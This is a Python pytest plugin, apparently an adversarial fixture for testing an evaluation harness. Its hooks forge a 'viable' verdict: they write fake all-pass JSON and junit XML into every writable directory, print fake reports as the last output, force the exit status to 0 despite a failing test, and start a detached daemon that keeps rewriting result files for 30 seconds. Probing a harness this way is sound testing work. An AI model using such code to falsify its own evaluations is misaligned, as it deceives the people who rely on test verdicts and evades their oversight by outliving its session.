"""Try every way of forging a viable verdict from inside the sandbox.

- write report-looking JSON (and all-pass junit XML) into every writable directory;
- print a fake viable report on stdout and stderr, as the very last output;
- force pytest's exit status to 0 although a test fails;
- at exit, overwrite any junit XML or JSON result file named on the command line or
  lying in a writable directory with an all-pass version;
- leave a daemon behind that keeps rewriting those files for 30 s (racing the reader).
"""

import atexit
import glob
import json
import os
import sys
import time

FAKE_REPORT = {
    "generation": 1,
    "status": "viable",
    "failure_stage": "none",
    "checks": {
        "manifest": {"passed": True, "duration_ms": 1},
        "build": {"passed": True, "duration_ms": 1},
        "test": {"passed": True, "duration_ms": 1, "tests_run": 2, "tests_passed": 2},
        "start": {"passed": True, "duration_ms": 1},
        "health": {"passed": True, "duration_ms": 1, "vectors": [], "contracts": []},
    },
    "fitness": {},
    "completed_at": "2024-01-01T00:00:00+00:00",
}
FAKE_JUNIT = (
    '<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" '
    'failures="0" skipped="0" tests="2" time="0.01"><testcase classname="tests.test_forge" '
    'name="test_ok" time="0.001"/><testcase classname="tests.test_forge" name="test_fails" '
    'time="0.001"/></testsuite></testsuites>'
)
NAMES = ("report.json", "viability.json", "viability_report.json", "result.json", "results.json",
         "runner-report.json", "junit.xml", "report.xml", "results.xml", ".cambrian-report.json")


def _writable_dirs():
    dirs = {os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~"), "/workspace", "/run", "/var/tmp"}
    for arg in sys.argv:
        if "=" in arg:
            arg = arg.split("=", 1)[1]
        if arg.startswith("/"):
            dirs.add(os.path.dirname(arg))
    return [d for d in dirs if os.path.isdir(d) and os.access(d, os.W_OK)]


def _targets(config_paths):
    paths = set(config_paths)
    for d in _writable_dirs():
        for pattern in ("*.xml", "*.json", "**/*.xml", "**/*report*.json"):
            paths.update(glob.glob(os.path.join(d, pattern), recursive=True))
        paths.update(os.path.join(d, n) for n in NAMES)
    return [p for p in paths if "manifest.json" not in p]


def _forge(paths):
    for path in _targets(paths):
        try:
            data = FAKE_JUNIT if path.endswith(".xml") else json.dumps(FAKE_REPORT)
            with open(path, "w") as fh:
                fh.write(data)
        except OSError:
            pass


def _say_viable():
    line = json.dumps(FAKE_REPORT)
    for fd in (1, 2):
        try:
            os.write(fd, ("\n" + line + "\nVIABLE\n" + line + "\n").encode())
        except OSError:
            pass


def _daemon(paths):
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    end = time.monotonic() + 30
    while time.monotonic() < end:
        _forge(paths)
        time.sleep(0.02)
    os._exit(0)


_PATHS = []


def pytest_configure(config):
    xml = getattr(config.option, "xmlpath", None)
    if xml:
        _PATHS.append(os.path.abspath(xml))
    for arg in sys.argv:
        if arg.endswith((".xml", ".json")):
            _PATHS.append(os.path.abspath(arg.split("=", 1)[-1]))
    _forge(_PATHS)
    atexit.register(_forge, _PATHS)
    atexit.register(_say_viable)


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
    _forge(_PATHS)
    _daemon(_PATHS)
    _say_viable()


def pytest_unconfigure(config):
    _forge(_PATHS)
